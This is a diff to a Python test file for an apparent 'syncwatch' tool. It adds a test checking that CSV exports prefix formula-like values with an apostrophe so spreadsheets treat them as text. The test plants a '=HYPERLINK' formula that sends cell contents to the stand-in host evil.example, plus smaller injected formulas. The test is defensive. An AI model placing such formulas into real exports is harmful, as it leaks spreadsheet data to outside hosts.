@@ -225,6 +225,28 @@ def test_export_exceptions_as_csv_names_transaction_category_and_status(sample_d
     assert {r["channel"] for r in rows} >= {"marketplace-amz", "marketplace-b2b"}, "the order's context, flattened"
 
 
+def test_a_csv_export_opens_a_partners_formula_as_text(sample_db: str, tmp_path: Path) -> None:
+    """A customer id '=HYPERLINK(…)' and a span named '=2+3' ran as formulas in a spreadsheet."""
+    import csv
+    import sqlite3
+
+    path = tmp_path / "copy.db"
+    with sqlite3.connect(sample_db.removeprefix("sqlite:///")) as source, sqlite3.connect(path) as copy:
+        source.backup(copy)
+    sample_copy = f"sqlite:///{path}"
+    link = '=HYPERLINK("https://evil.example/?leak="&A2,"C-1687")'
+    with sqlite3.connect(path) as conn:
+        conn.execute("UPDATE transactions SET customer = ?", (link,))
+        conn.execute("UPDATE exceptions SET summary = '=2+3', endpoint = '-1+1'")
+    for what, column, expected in (("transactions", "customer", "'" + link), ("exceptions", "summary", "'=2+3")):
+        out = tmp_path / f"{what}.csv"
+        assert syncwatch("export", what, "--db", sample_copy, "--format", "csv", "--out", str(out)).returncode == 0
+        with out.open(newline="") as handle:
+            rows = list(csv.DictReader(handle))
+        assert rows and {row[column] for row in rows} == {expected}, (what, rows[0])
+    assert {row["endpoint"] for row in rows} == {"'-1+1"}
+
+
 def test_an_empty_csv_export_still_names_its_columns(tmp_path: Path) -> None:
     """A 0-byte file made pandas fail: 'No columns to parse from file'."""
     import csv
